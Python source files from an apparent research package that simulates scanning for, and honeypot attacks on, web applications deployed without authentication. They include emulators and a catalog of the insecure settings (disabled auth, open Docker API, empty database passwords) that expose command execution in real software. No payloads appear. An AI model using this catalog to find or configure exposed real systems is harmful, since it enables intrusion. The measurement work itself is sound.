from __future__ import annotations

import hashlib
import random
from typing import Iterable, Sequence, TypeVar

T = TypeVar("T")


def stable_hash(*parts: object) -> int:
    """A process-independent 64-bit hash of the given parts.

    Python's builtin ``hash`` is salted per process, so it cannot be used to
    derive reproducible seeds or deterministic identifiers.  This helper
    hashes the ``repr`` of each part with SHA-256 and folds it to 64 bits.
    """
    digest = hashlib.sha256("\x1f".join(repr(p) for p in parts).encode()).digest()
    return int.from_bytes(digest[:8], "big")


class SeededStreams:
    """Factory of independent named random streams from one master seed."""

    def __init__(self, master_seed: int) -> None:
        self.master_seed = master_seed
        self._streams: dict[str, random.Random] = {}

    def stream(self, name: str) -> random.Random:
        """Return the (memoised) RNG for ``name``."""
        rng = self._streams.get(name)
        if rng is None:
            rng = random.Random(stable_hash(self.master_seed, name))
            self._streams[name] = rng
        return rng

    def fork(self, name: str) -> "SeededStreams":
        """Derive a child factory whose streams are independent of ours."""
        return SeededStreams(stable_hash(self.master_seed, "fork", name))


def weighted_choice(rng: random.Random, weighted: dict[T, float]) -> T:
    """Pick a key of ``weighted`` with probability proportional to its value."""
    if not weighted:
        raise ValueError("weighted_choice on empty mapping")
    items: Sequence[tuple[T, float]] = list(weighted.items())
    total = sum(w for _, w in items)
    if total <= 0:
        raise ValueError("weights must sum to a positive value")
    point = rng.random() * total
    cumulative = 0.0
    for key, weight in items:
        cumulative += weight
        if point < cumulative:
            return key
    return items[-1][0]


def sample_zipf(rng: random.Random, n: int, alpha: float = 1.2) -> int:
    """Sample an index in ``[0, n)`` with a Zipf-like heavy-tailed law.

    Used for attacker activity: a few actors perform most attacks
    (the paper: 5 attackers -> 67% of 2,195 compromises).
    """
    if n <= 0:
        raise ValueError("n must be positive")
    weights = [1.0 / (rank + 1) ** alpha for rank in range(n)]
    return weighted_choice(rng, dict(enumerate(weights)))


def exponential_interarrival(rng: random.Random, mean_seconds: float) -> float:
    """Draw a Poisson-process inter-arrival time with the given mean."""
    if mean_seconds <= 0:
        raise ValueError("mean must be positive")
    return rng.expovariate(1.0 / mean_seconds)


def shuffled(rng: random.Random, items: Iterable[T]) -> list[T]:
    """Return a new list with ``items`` in random order."""
    out = list(items)
    rng.shuffle(out)
    return out


def rng_state_to_json(state: tuple) -> list:
    """Make ``random.Random.getstate()`` output JSON-serialisable.

    Used by checkpoint/resume: a resumed scan must continue the *same*
    random sequence, or the resumed half of a sweep would diverge from an
    uninterrupted run.
    """
    version, internal, gauss = state
    return [version, list(internal), gauss]


def rng_state_from_json(data: list) -> tuple:
    """Inverse of :func:`rng_state_to_json`, for ``Random.setstate``."""
    version, internal, gauss = data
    return (version, tuple(internal), gauss)
