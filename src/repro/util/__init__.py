"""Shared utilities: simulated clock, seeded randomness, table rendering.

These utilities are deliberately dependency-free so every other subpackage
can import them without cycles.
"""

from repro.util.clock import SimClock, Duration
from repro.util.rand import SeededStreams, stable_hash
from repro.util.tables import Table, render_table
from repro.util.errors import ReproError, ConfigError, TransportError

__all__ = [
    "SimClock",
    "Duration",
    "SeededStreams",
    "stable_hash",
    "Table",
    "render_table",
    "ReproError",
    "ConfigError",
    "TransportError",
]
