"""Exception hierarchy for the repro package.

Every error raised by this library derives from :class:`ReproError`, so
callers can catch one type at the API boundary.  Subsystem-specific errors
subclass it to keep ``except`` clauses precise.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by the repro library."""


class ConfigError(ReproError):
    """An experiment or application was configured inconsistently."""


class TransportError(ReproError):
    """A network-level failure: refused connection, timeout, reset.

    Mirrors the failures a real scanner sees from sockets.  The scanning
    pipeline treats these as "host not responsive" rather than crashing.
    """


class ConnectionRefused(TransportError):
    """The target port is closed (TCP RST in the real world)."""


class ConnectionTimeout(TransportError):
    """The target did not answer within the deadline (filtered port)."""


class ConnectionReset(TransportError):
    """The peer tore the connection down mid-exchange (TCP RST)."""


class CircuitOpen(TransportError):
    """A circuit breaker refused the operation without touching the wire.

    Raised instead of probing a target whose per-host or per-/24 circuit
    is open; callers treat it like any transport failure (a miss), which
    is the point — stop hammering dead targets.
    """


class TlsError(TransportError):
    """The target port is open but does not speak TLS."""


class PluginError(ReproError):
    """A Tsunami detection plugin failed in an unexpected way."""


class SnapshotError(ReproError):
    """A honeypot snapshot could not be taken or restored."""


class LogIntegrityError(ReproError):
    """The append-only central log detected tampering."""
