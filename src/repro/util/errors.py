"""Exception hierarchy for the repro package.

Every error raised by this library derives from :class:`ReproError`, so
callers can catch one type at the API boundary.  Subsystem-specific errors
subclass it to keep ``except`` clauses precise.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by the repro library."""


class ConfigError(ReproError):
    """An experiment or application was configured inconsistently."""


class TransportError(ReproError):
    """A network-level failure: refused connection, timeout, reset.

    Mirrors the failures a real scanner sees from sockets.  The scanning
    pipeline treats these as "host not responsive" rather than crashing.
    """


class ConnectionRefused(TransportError):
    """The target port is closed (TCP RST in the real world)."""


class ConnectionTimeout(TransportError):
    """The target did not answer within the deadline (filtered port)."""


class ConnectionReset(TransportError):
    """The peer tore the connection down mid-exchange (TCP RST)."""


class CircuitOpen(TransportError):
    """A circuit breaker refused the operation without touching the wire.

    Raised instead of probing a target whose per-host or per-/24 circuit
    is open; callers treat it like any transport failure (a miss), which
    is the point — stop hammering dead targets.
    """


class TlsError(TransportError):
    """The target port is open but does not speak TLS."""


class PoisonError(TransportError):
    """A non-transport failure while handling a target's response.

    Raised when a plugin, matcher, or parser blows up on a garbled body
    — a *poison target*, not a flaky network.  Subclasses
    :class:`TransportError` so every stage's failure handling treats it
    as a miss, but the retry executor never retries it: retrying a
    deterministic parse crash burns the budget for nothing.  Poison
    events feed the supervisor's quarantine ledger instead.
    """


class QuarantineSkip(TransportError):
    """An operation was refused because its target is quarantined.

    Like :class:`CircuitOpen`, raised without touching the wire; unlike
    a circuit, quarantine never half-opens — a poison target stays
    quarantined for the rest of the sweep.
    """


class ShardCrash(ReproError):
    """A shard worker died mid-execution (injected or real).

    Deliberately *not* a :class:`TransportError`: a crashed shard is a
    runtime failure the supervisor's restart ladder handles, never
    something a per-host retry loop should swallow.
    """


class CoverageError(ReproError):
    """A CoverageReport failed its invariant or report reconciliation."""


class VerificationError(ReproError):
    """An incremental result diverged from its from-scratch oracle."""


class PluginError(ReproError):
    """A Tsunami detection plugin failed in an unexpected way."""


class SnapshotError(ReproError):
    """A honeypot snapshot could not be taken or restored."""


class LogIntegrityError(ReproError):
    """The append-only central log detected tampering."""
