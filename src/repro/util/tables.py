"""Plain-text table rendering for experiment reports.

The paper's evaluation is mostly tables; the analysis layer produces
:class:`Table` values and the report module renders them with this helper,
so benchmark output visually matches the paper's rows.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, Sequence


@dataclass
class Table:
    """A titled table with a header row and string-able cells."""

    title: str
    columns: Sequence[str]
    rows: list[Sequence[object]] = field(default_factory=list)

    def add_row(self, *cells: object) -> None:
        if len(cells) != len(self.columns):
            raise ValueError(
                f"row has {len(cells)} cells, table has {len(self.columns)} columns"
            )
        self.rows.append(cells)

    def column(self, name: str) -> list[object]:
        """Extract one column by header name."""
        index = list(self.columns).index(name)
        return [row[index] for row in self.rows]

    def as_dicts(self) -> list[dict[str, object]]:
        """Rows as dictionaries keyed by column name."""
        return [dict(zip(self.columns, row)) for row in self.rows]

    def render(self) -> str:
        return render_table(self.title, self.columns, self.rows)

    def __str__(self) -> str:
        return self.render()


def render_table(
    title: str,
    columns: Sequence[str],
    rows: Iterable[Sequence[object]],
) -> str:
    """Render a fixed-width ASCII table."""
    str_rows = [[_fmt(cell) for cell in row] for row in rows]
    headers = [str(c) for c in columns]
    widths = [len(h) for h in headers]
    for row in str_rows:
        for i, cell in enumerate(row):
            widths[i] = max(widths[i], len(cell))

    def line(cells: Sequence[str]) -> str:
        return "  ".join(cell.ljust(width) for cell, width in zip(cells, widths)).rstrip()

    separator = "-" * (sum(widths) + 2 * (len(widths) - 1))
    body = [line(row) for row in str_rows]
    return "\n".join([title, separator, line(headers), separator, *body, separator])


def _fmt(cell: object) -> str:
    if isinstance(cell, float):
        return f"{cell:,.1f}"
    if isinstance(cell, int):
        return f"{cell:,}"
    return str(cell)
