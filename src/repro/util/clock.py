"""A deterministic simulated clock.

The paper's experiments are defined in wall-clock terms: a 22-hour scan,
re-scans every three hours, a four-week honeypot study.  To reproduce those
timelines deterministically (and in milliseconds instead of weeks) every
time-dependent component takes a :class:`SimClock` instead of reading the
real time.

Times are modelled as seconds since the experiment epoch (a float), which
keeps arithmetic trivial and avoids timezone handling entirely.  Helpers
convert to human-readable offsets when rendering reports.
"""

from __future__ import annotations

import heapq
from dataclasses import dataclass, field
from typing import Callable

SECOND = 1.0
MINUTE = 60.0
HOUR = 3600.0
DAY = 24 * HOUR
WEEK = 7 * DAY


@dataclass(frozen=True, order=True)
class Duration:
    """A span of simulated time, kept as seconds.

    Thin value type used where a bare float would be ambiguous
    (is ``3`` three seconds or three hours?).
    """

    seconds: float

    @classmethod
    def hours(cls, n: float) -> "Duration":
        return cls(n * HOUR)

    @classmethod
    def days(cls, n: float) -> "Duration":
        return cls(n * DAY)

    @classmethod
    def weeks(cls, n: float) -> "Duration":
        return cls(n * WEEK)

    @property
    def in_hours(self) -> float:
        return self.seconds / HOUR

    @property
    def in_days(self) -> float:
        return self.seconds / DAY

    def __add__(self, other: "Duration") -> "Duration":
        return Duration(self.seconds + other.seconds)

    def __mul__(self, factor: float) -> "Duration":
        return Duration(self.seconds * factor)

    def __str__(self) -> str:
        if self.seconds >= DAY:
            return f"{self.in_days:.1f}d"
        if self.seconds >= HOUR:
            return f"{self.in_hours:.1f}h"
        if self.seconds >= MINUTE:
            return f"{self.seconds / MINUTE:.1f}m"
        return f"{self.seconds:.1f}s"


@dataclass(order=True)
class _ScheduledEvent:
    when: float
    sequence: int
    callback: Callable[[], None] = field(compare=False)
    cancelled: bool = field(default=False, compare=False)


class SimClock:
    """Discrete-event simulated clock.

    Components read :attr:`now` and may :meth:`schedule` callbacks.  The
    experiment driver advances time with :meth:`advance` or :meth:`run_until`,
    which fires due callbacks in timestamp order (ties broken by scheduling
    order, so runs are deterministic).
    """

    def __init__(self, start: float = 0.0) -> None:
        self._now = start
        self._queue: list[_ScheduledEvent] = []
        self._sequence = 0

    @property
    def now(self) -> float:
        """Current simulated time in seconds since the epoch."""
        return self._now

    def schedule(self, delay: float, callback: Callable[[], None]) -> _ScheduledEvent:
        """Run ``callback`` after ``delay`` seconds of simulated time."""
        if delay < 0:
            raise ValueError(f"cannot schedule in the past (delay={delay})")
        event = _ScheduledEvent(self._now + delay, self._sequence, callback)
        self._sequence += 1
        heapq.heappush(self._queue, event)
        return event

    def schedule_at(self, when: float, callback: Callable[[], None]) -> _ScheduledEvent:
        """Run ``callback`` at absolute simulated time ``when``."""
        return self.schedule(when - self._now, callback)

    def cancel(self, event: _ScheduledEvent) -> None:
        """Prevent a scheduled event from firing."""
        event.cancelled = True

    def advance(self, delta: float) -> None:
        """Move time forward by ``delta`` seconds, firing due events."""
        self.run_until(self._now + delta)

    def run_until(self, deadline: float) -> None:
        """Fire all events scheduled up to and including ``deadline``."""
        if deadline < self._now:
            raise ValueError("cannot run the clock backwards")
        while self._queue and self._queue[0].when <= deadline:
            event = heapq.heappop(self._queue)
            if event.cancelled:
                continue
            # Events may schedule further events; advancing now first keeps
            # `clock.now` correct inside the callback.
            self._now = event.when
            event.callback()
        self._now = deadline

    def run_all(self) -> None:
        """Fire every pending event, advancing time as far as needed."""
        while self._queue:
            event = heapq.heappop(self._queue)
            if event.cancelled:
                continue
            self._now = event.when
            event.callback()

    @property
    def pending(self) -> int:
        """Number of not-yet-cancelled scheduled events."""
        return sum(1 for e in self._queue if not e.cancelled)


def format_offset(seconds: float) -> str:
    """Render an experiment-relative timestamp like ``d03 07:30``."""
    days, rem = divmod(seconds, DAY)
    hours, rem = divmod(rem, HOUR)
    minutes = rem // MINUTE
    return f"d{int(days):02d} {int(hours):02d}:{int(minutes):02d}"
