"""Framework shared by all application emulators.

An emulator is a :class:`WebApplication` subclass.  It declares routes with
the :func:`route` decorator, carries an installed version and a
configuration mapping, and answers :class:`~repro.net.http.HttpRequest`
values exactly like the real software would for the endpoints the study
exercises.

Two consumers drive emulators:

* the scanning pipeline sends non-state-changing GET requests and inspects
  bodies (prevalence study, §3);
* the honeypot fleet forwards full attacker traffic, including POSTs that
  execute commands; emulators record those as :class:`CommandExecution`
  audit events (attacker study, §4).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable, ClassVar, Iterable, Mapping

from repro.net.http import HttpRequest, HttpResponse
from repro.util.errors import ConfigError
from repro.util.rand import stable_hash


class AppCategory(enum.Enum):
    """The paper's five application categories."""

    CI = "Continuous Integration"
    CMS = "Content Management System"
    CM = "Cluster Management"
    NB = "Notebook"
    CP = "Control Panel"

    @property
    def short(self) -> str:
        return self.name


class VulnKind(enum.Enum):
    """Attack vector exposed by the missing authentication (Table 1)."""

    SYSCMD = "Syscmd"    # direct system command execution
    API = "API"          # critical HTTP API wrapping system commands
    SQL = "SQL"          # SQL console access
    INSTALL = "Install"  # hijackable installation wizard
    NONE = "-"           # not in scope


@dataclass(frozen=True)
class CommandExecution:
    """An audit record: code ran on the host through the web endpoint.

    This is what Auditbeat would report as an ``execve`` on the real
    honeypots; the emulators synthesise it instead of actually executing
    anything.
    """

    command: str
    via: str                    # the endpoint that triggered it, e.g. "/api/terminals"
    mechanism: str              # e.g. "terminal", "build-step", "container"

    @property
    def payload_fingerprint(self) -> int:
        """Stable fingerprint used to group repeated payloads."""
        return stable_hash("payload", self.command)


RouteHandler = Callable[["WebApplication", HttpRequest], HttpResponse]


def route(method: str, path: str) -> Callable[[RouteHandler], RouteHandler]:
    """Declare a handler for ``method path`` on a WebApplication subclass.

    ``path`` matches the request's path with the query string stripped.
    A trailing ``*`` makes it a prefix match.
    """

    def decorator(handler: RouteHandler) -> RouteHandler:
        handler._route = (method.upper(), path)  # type: ignore[attr-defined]
        return handler

    return decorator


class WebApplication:
    """Base class for the 25 emulators.

    Subclasses set the class attributes and implement routes.  Instances
    are cheap: the population generator creates hundreds of thousands.
    """

    # -- identity (overridden per subclass) -------------------------------
    name: ClassVar[str] = "abstract"
    slug: ClassVar[str] = "abstract"
    category: ClassVar[AppCategory] = AppCategory.CP
    vuln_kind: ClassVar[VulnKind] = VulnKind.NONE
    default_ports: ClassVar[tuple[int, ...]] = (80,)
    #: does the application disclose its version voluntarily (13 of 18 do)?
    discloses_version: ClassVar[bool] = False

    def __init__(self, version: str, config: Mapping[str, object] | None = None) -> None:
        self.version = version
        self.config: dict[str, object] = dict(config or {})
        self.executions: list[CommandExecution] = []
        self._routes = self._collect_routes()
        self.validate_config()

    # -- configuration -----------------------------------------------------

    def validate_config(self) -> None:
        """Subclasses may reject inconsistent configurations."""

    def cfg(self, key: str, default: object = None) -> object:
        return self.config.get(key, default)

    # -- security ground truth ----------------------------------------------

    def is_vulnerable(self) -> bool:
        """Ground truth: does this instance expose a MAV right now?

        This is what the simulator knows; the scanning pipeline must
        *infer* it from HTTP responses alone, which is exactly the
        methodology the paper evaluates.
        """
        raise NotImplementedError

    def secure(self) -> None:
        """Reconfigure the instance so it no longer exposes the MAV.

        Used by the lifecycle model when an owner "fixes" a host.
        """
        raise NotImplementedError

    # -- versioned behaviour helpers ----------------------------------------

    def version_tuple(self) -> tuple[int, ...]:
        return parse_version(self.version)

    def version_before(self, threshold: str) -> bool:
        return self.version_tuple() < parse_version(threshold)

    # -- request handling -----------------------------------------------------

    def handle(self, request: HttpRequest) -> HttpResponse:
        """Dispatch a request to the matching route."""
        path = request.path_only
        method = request.method.upper()
        handler = self._routes.get((method, path))
        if handler is None:
            handler = self._prefix_match(method, path)
        if handler is None:
            if method == "GET":
                asset = self.static_files().get(path)
                if asset is not None:
                    content_type = "text/css" if path.endswith(".css") else "application/javascript"
                    return HttpResponse.ok(asset, content_type=content_type)
            return self.default_response(request)
        return handler(self, request)

    def _prefix_match(self, method: str, path: str) -> RouteHandler | None:
        best: RouteHandler | None = None
        best_len = -1
        for (m, pattern), handler in self._routes.items():
            if m != method or not pattern.endswith("*"):
                continue
            prefix = pattern[:-1]
            if path.startswith(prefix) and len(prefix) > best_len:
                best, best_len = handler, len(prefix)
        return best

    def default_response(self, request: HttpRequest) -> HttpResponse:
        """Response for unrouted paths; subclasses may override."""
        return HttpResponse.not_found()

    def canned_paths(self) -> tuple[str, ...]:
        """GET paths whose responses characterise this application.

        This is the ground-truth page corpus the signature auditor and the
        precision-matrix tests probe.  The default is every exact-match GET
        route; subclasses append query-carrying probe paths (Table 10)
        whose bodies differ from the bare route.
        """
        return tuple(
            sorted(
                path
                for (method, path) in self._routes
                if method == "GET" and not path.endswith("*")
            )
        )

    @classmethod
    def _collect_routes(cls) -> dict[tuple[str, str], RouteHandler]:
        routes: dict[tuple[str, str], RouteHandler] = {}
        for klass in reversed(cls.__mro__):
            for attr in vars(klass).values():
                route_key = getattr(attr, "_route", None)
                if route_key is not None:
                    routes[route_key] = attr
        return routes

    # -- honeypot instrumentation ----------------------------------------------

    def record_execution(self, command: str, via: str, mechanism: str) -> CommandExecution:
        """Record that attacker-supplied code ran (simulated, never real)."""
        execution = CommandExecution(command=command, via=via, mechanism=mechanism)
        self.executions.append(execution)
        return execution

    def drain_executions(self) -> list[CommandExecution]:
        """Return and clear recorded executions (monitor poll)."""
        drained, self.executions = self.executions, []
        return drained

    # -- fingerprinting surface ---------------------------------------------------

    def static_files(self) -> dict[str, str]:
        """Static assets (path -> content) referenced from the landing page.

        Contents vary by version, which is what makes hash-based
        fingerprinting possible.  Subclasses extend this.
        """
        return {}

    def landing_page(self) -> str:
        """The body served at '/'; must contain the prefilter markers."""
        return "<html><body>It works!</body></html>"

    # -- niceties -----------------------------------------------------------------

    def __repr__(self) -> str:
        return f"<{type(self).__name__} v{self.version} config={self.config}>"


@dataclass
class AppInstance:
    """An application deployed on a simulated host.

    Binds an emulator to the port and scheme it is served on.
    """

    app: WebApplication
    port: int
    tls: bool = False

    @property
    def slug(self) -> str:
        return self.app.slug

    def handle(self, request: HttpRequest) -> HttpResponse:
        return self.app.handle(request)


def parse_version(text: str) -> tuple[int, ...]:
    """Parse '2.289.1' -> (2, 289, 1); tolerant of suffixes like '4.6.3-rc1'."""
    parts: list[int] = []
    for chunk in text.split("."):
        digits = ""
        for char in chunk:
            if char.isdigit():
                digits += char
            else:
                break
        if not digits:
            break
        parts.append(int(digits))
    if not parts:
        raise ConfigError(f"unparseable version: {text!r}")
    return tuple(parts)


def versioned_asset(slug: str, path: str, version: str) -> str:
    """Deterministic, version-dependent static file content.

    Real fingerprinters hash files like ``wp-includes/js/wp-embed.min.js``
    whose bytes change between releases.  We synthesise stable stand-ins:
    same (app, path, version) -> same content, different version ->
    different content.
    """
    token = stable_hash(slug, path, version)
    return f"/* {slug} asset {path} */ build={token:016x};"


def html_page(title: str, body: str, assets: Iterable[str] = ()) -> str:
    """Small helper to build landing pages with asset references."""
    links = "\n".join(
        f'<script src="{a}"></script>' if a.endswith(".js") else f'<link rel="stylesheet" href="{a}">'
        for a in assets
    )
    return (
        "<!DOCTYPE html>\n"
        f"<html><head><title>{title}</title>\n{links}\n</head>"
        f"<body>{body}</body></html>"
    )
