"""The application catalog: the paper's Table 1 in machine-readable form.

For each of the 25 investigated applications this records the category,
GitHub-star popularity used for selection, the MAV attack vector, the
security posture of the default configuration (and when it changed), and
whether the vendor warns about insecure deployment.  The catalog also acts
as the factory for emulator instances.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass

from repro.apps import ci, cluster, cms, notebooks, panels
from repro.apps.base import AppCategory, VulnKind, WebApplication
from repro.apps.versions import RELEASE_DB
from repro.util.errors import ConfigError


class DefaultPosture(enum.Enum):
    """Security of the default configuration (legend of Tables 3 and 9)."""

    SECURE = "secure"       # ✓ secure by default
    CHANGED = "changed"     # † insecure in older versions, fixed since
    INSECURE = "insecure"   # ✗ MAV exists by default
    NOT_APPLICABLE = "n/a"  # out of scope

    @property
    def symbol(self) -> str:
        return {"secure": "Y", "changed": "t", "insecure": "X", "n/a": "-"}[self.value]


@dataclass(frozen=True)
class AppSpec:
    """One row of Table 1, plus the emulator class and simulation hooks."""

    slug: str
    emulator: type[WebApplication]
    github_stars_k: int
    posture: DefaultPosture
    #: version from which the default became secure (posture CHANGED only)
    secured_since: str | None = None
    #: year the default changed (posture CHANGED only)
    secured_year: int | None = None
    #: True = vendor warns, False = no warning, None = not applicable
    warns: bool | None = None
    #: config overrides that make an instance of this app vulnerable
    insecure_overrides: dict[str, object] | None = None

    @property
    def name(self) -> str:
        return self.emulator.name

    @property
    def category(self) -> AppCategory:
        return self.emulator.category

    @property
    def vuln_kind(self) -> VulnKind:
        return self.emulator.vuln_kind

    @property
    def in_scope(self) -> bool:
        return self.vuln_kind is not VulnKind.NONE

    @property
    def default_ports(self) -> tuple[int, ...]:
        return self.emulator.default_ports

    def default_mav_in(self, version: str) -> bool:
        """Was this version's *default* configuration vulnerable?

        Distinguishes insecure-by-default deployments from explicitly
        misconfigured ones — the split Figure 2's right column is about.
        """
        if not self.in_scope:
            return False
        if self.posture is DefaultPosture.INSECURE:
            return True
        if self.posture is DefaultPosture.CHANGED and self.secured_since is not None:
            from repro.apps.base import parse_version

            return parse_version(version) < parse_version(self.secured_since)
        return False

    def default_mav_cell(self) -> str:
        """Render the 'Default MAV' column of Table 1."""
        if not self.in_scope:
            return "-"
        if self.posture is DefaultPosture.INSECURE:
            return "yes"
        if self.posture is DefaultPosture.CHANGED:
            return f"< {self.secured_since} ({self.secured_year})"
        return "no"

    def warn_cell(self) -> str:
        if self.warns is None:
            return "-"
        return "yes" if self.warns else "no"


def _spec(
    emulator: type[WebApplication],
    stars: int,
    posture: DefaultPosture,
    *,
    secured_since: str | None = None,
    secured_year: int | None = None,
    warns: bool | None = None,
    insecure: dict[str, object] | None = None,
) -> AppSpec:
    return AppSpec(
        slug=emulator.slug,
        emulator=emulator,
        github_stars_k=stars,
        posture=posture,
        secured_since=secured_since,
        secured_year=secured_year,
        warns=warns,
        insecure_overrides=insecure,
    )


#: Table 1, in the paper's row order.
APP_CATALOG: tuple[AppSpec, ...] = (
    # -- Continuous Integration ------------------------------------------------
    _spec(ci.Gitlab, 23, DefaultPosture.NOT_APPLICABLE),
    _spec(ci.Drone, 23, DefaultPosture.NOT_APPLICABLE),
    _spec(ci.Jenkins, 18, DefaultPosture.CHANGED, secured_since="2.0",
          secured_year=2016, insecure={"auth_enabled": False}),
    _spec(ci.Travis, 8, DefaultPosture.NOT_APPLICABLE),
    _spec(ci.GoCD, 6, DefaultPosture.INSECURE, warns=True,
          insecure={"auth_enabled": False}),
    # -- Content Management Systems -----------------------------------------------
    _spec(cms.Ghost, 38, DefaultPosture.NOT_APPLICABLE),
    _spec(cms.WordPress, 15, DefaultPosture.INSECURE, warns=False,
          insecure={"installed": False}),
    _spec(cms.Grav, 13, DefaultPosture.INSECURE, warns=False,
          insecure={"installed": False}),
    _spec(cms.Joomla, 4, DefaultPosture.CHANGED, secured_since="3.7.4",
          secured_year=2017, insecure={"installed": False}),
    _spec(cms.Drupal, 4, DefaultPosture.INSECURE, warns=False,
          insecure={"installed": False}),
    # -- Cluster Management ---------------------------------------------------------
    _spec(cluster.Kubernetes, 78, DefaultPosture.SECURE,
          insecure={"anonymous_auth": True}),
    _spec(cluster.Docker, 23, DefaultPosture.INSECURE, warns=False,
          insecure={"tls_client_auth": False}),
    _spec(cluster.Consul, 22, DefaultPosture.SECURE,
          insecure={"enable_script_checks": True}),
    _spec(cluster.Hadoop, 12, DefaultPosture.INSECURE, warns=False,
          insecure={"kerberos": False}),
    _spec(cluster.Nomad, 9, DefaultPosture.INSECURE, warns=True,
          insecure={"acl_enabled": False}),
    # -- Notebooks ----------------------------------------------------------------------
    _spec(notebooks.JupyterLab, 11, DefaultPosture.SECURE,
          insecure={"auth_enabled": False}),
    _spec(notebooks.JupyterNotebook, 8, DefaultPosture.CHANGED,
          secured_since="4.3", secured_year=2016,
          insecure={"auth_enabled": False}),
    _spec(notebooks.Zeppelin, 5, DefaultPosture.INSECURE, warns=False,
          insecure={"shiro_auth": False}),
    _spec(notebooks.Polynote, 4, DefaultPosture.INSECURE, warns=True,
          insecure={}),
    _spec(notebooks.SparkNotebook, 3, DefaultPosture.NOT_APPLICABLE),
    # -- Control Panels ---------------------------------------------------------------------
    _spec(panels.Ajenti, 6, DefaultPosture.SECURE, warns=True,
          insecure={"autologin": True}),
    _spec(panels.PhpMyAdmin, 6, DefaultPosture.SECURE, warns=False,
          insecure={"allow_no_password": True, "root_password_empty": True}),
    _spec(panels.Adminer, 5, DefaultPosture.CHANGED, secured_since="4.6.3",
          secured_year=2018, insecure={"root_password_empty": True}),
    _spec(panels.VestaCP, 3, DefaultPosture.NOT_APPLICABLE),
    _spec(panels.OmniDB, 3, DefaultPosture.NOT_APPLICABLE),
)

_BY_SLUG = {spec.slug: spec for spec in APP_CATALOG}


def all_apps() -> tuple[AppSpec, ...]:
    """All 25 investigated applications, in Table 1 order."""
    return APP_CATALOG


def in_scope_apps() -> tuple[AppSpec, ...]:
    """The 18 applications with a MAV attack vector."""
    return tuple(spec for spec in APP_CATALOG if spec.in_scope)


def app_by_slug(slug: str) -> AppSpec:
    try:
        return _BY_SLUG[slug]
    except KeyError:
        raise ConfigError(f"unknown application slug: {slug!r}") from None


def create_instance(
    slug: str,
    version: str | None = None,
    vulnerable: bool = False,
) -> WebApplication:
    """Instantiate an emulator in a secure or vulnerable configuration.

    ``version=None`` installs the latest release.  ``vulnerable=True``
    applies the per-application insecure overrides — for CHANGED-posture
    apps this may mean the old insecure default (if the version predates
    the fix) or an explicit misconfiguration (if it does not); the emulator
    semantics handle both identically.
    """
    spec = app_by_slug(slug)
    if vulnerable and not spec.in_scope:
        raise ConfigError(f"{spec.name} has no MAV to enable")
    config = dict(spec.insecure_overrides or {}) if vulnerable else {}
    if version is None:
        if vulnerable:
            # Latest release whose overrides actually yield a MAV (Adminer's
            # empty-password trick only works before 4.6.3, for example).
            for release in reversed(RELEASE_DB.releases(slug)):
                candidate = spec.emulator(release.version, dict(config))
                if candidate.is_vulnerable():
                    return candidate
            raise ConfigError(f"no version of {slug} accepts the insecure overrides")
        version = RELEASE_DB.latest(slug).version
    instance = spec.emulator(version, config)
    if vulnerable and not instance.is_vulnerable():
        raise ConfigError(
            f"insecure overrides for {slug} v{version} did not produce a MAV"
        )
    if not vulnerable and instance.is_vulnerable():
        # Insecure-by-default software: a "secure" instance is one whose
        # owner explicitly enabled authentication.  Polynote is the one
        # app with nothing to enable; it stays vulnerable (its only
        # mitigation is not exposing it, which is a host property).
        try:
            instance.secure()
        except NotImplementedError:
            pass
    return instance


def scanned_ports() -> tuple[int, ...]:
    """The 12 ports of the paper's scan: 80, 443, plus app defaults."""
    ports = {80, 443}
    for spec in in_scope_apps():
        ports.update(spec.default_ports)
    return tuple(sorted(ports))
