"""Cluster-management emulators: Kubernetes, Docker, Consul, Hadoop, Nomad.

All five expose an HTTP API that can run code; they differ in whether that
API is reachable and authenticated by default:

* **Kubernetes** — API server requires authentication by default; only
  misconfigured clusters allow anonymous access.
* **Docker** — the REST API has no authentication at all; exposure on
  tcp://0.0.0.0:2375 *is* the vulnerability.
* **Consul** — API exposed by default, but code execution only when
  ``enable_script_checks`` / ``enable_remote_script_checks`` is on.
* **Hadoop** — YARN ResourceManager accepts job submissions from the
  anonymous ``dr.who`` user by default.
* **Nomad** — "Nomad is not secure-by-default": ACLs are off by default.
"""

from __future__ import annotations

import json

from repro.apps.base import (
    AppCategory,
    VulnKind,
    WebApplication,
    html_page,
    route,
    versioned_asset,
)
from repro.net.http import HttpRequest, HttpResponse


class Kubernetes(WebApplication):
    """Kubernetes API server.  Vulnerable iff anonymous auth is authorized."""

    name = "Kubernetes"
    slug = "kubernetes"
    category = AppCategory.CM
    vuln_kind = VulnKind.API
    default_ports = (6443,)
    discloses_version = True  # the /version endpoint

    def validate_config(self) -> None:
        self.config.setdefault("anonymous_auth", False)  # secure by default

    def is_vulnerable(self) -> bool:
        return bool(self.cfg("anonymous_auth"))

    def secure(self) -> None:
        self.config["anonymous_auth"] = False

    def _unauthorized(self) -> HttpResponse:
        return HttpResponse.json(
            json.dumps(
                {
                    "kind": "Status",
                    "apiVersion": "v1",
                    "status": "Failure",
                    "message": "Unauthorized",
                    "code": 401,
                }
            ),
            status=401,
        )

    def landing_page(self) -> str:
        # API discovery document; contains the Table-10 markers.
        paths = [
            "/api", "/api/v1", "/apis", "/apis/certificates.k8s.io",
            "/apis/certificates.k8s.io/v1", "/healthz", "/healthz/ping",
            "/livez", "/metrics", "/openapi/v2", "/version",
        ]
        return json.dumps({"paths": paths})

    @route("GET", "/")
    def index(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return self._unauthorized()
        return HttpResponse.json(self.landing_page())

    @route("GET", "/version")
    def version_endpoint(self, request: HttpRequest) -> HttpResponse:
        # Real API servers expose /version even to unauthenticated callers.
        major, minor = (self.version_tuple() + (0,))[:2]
        return HttpResponse.json(
            json.dumps(
                {
                    "major": str(major),
                    "minor": str(minor),
                    "gitVersion": f"v{self.version}",
                    "platform": "linux/amd64",
                }
            )
        )

    @route("GET", "/api/v1/pods")
    def list_pods(self, request: HttpRequest) -> HttpResponse:
        if not self.is_vulnerable():
            return self._unauthorized()
        pods = [
            {
                "metadata": {"name": f"workload-{i}", "namespace": "default"},
                "status": {"phase": "Running"},
            }
            for i in range(3)
        ]
        return HttpResponse.json(
            json.dumps({"kind": "PodList", "apiVersion": "v1", "items": pods})
        )

